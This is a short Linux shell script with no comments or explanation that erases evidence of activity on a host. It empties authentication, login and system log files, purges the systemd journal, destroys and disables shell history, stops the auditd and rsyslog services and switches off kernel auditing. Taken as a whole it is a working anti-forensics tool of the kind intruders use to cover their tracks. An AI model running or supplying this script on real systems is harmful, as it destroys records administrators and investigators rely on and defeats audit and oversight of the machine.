#!/bin/sh
for f in /var/log/auth.log /var/log/secure /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/syslog; do
    [ -e "$f" ] && : > "$f"
done
journalctl --rotate && journalctl --vacuum-time=1s
unset HISTFILE; rm -f ~/.bash_history; ln -s /dev/null ~/.bash_history
systemctl stop auditd rsyslog
auditctl -e 0
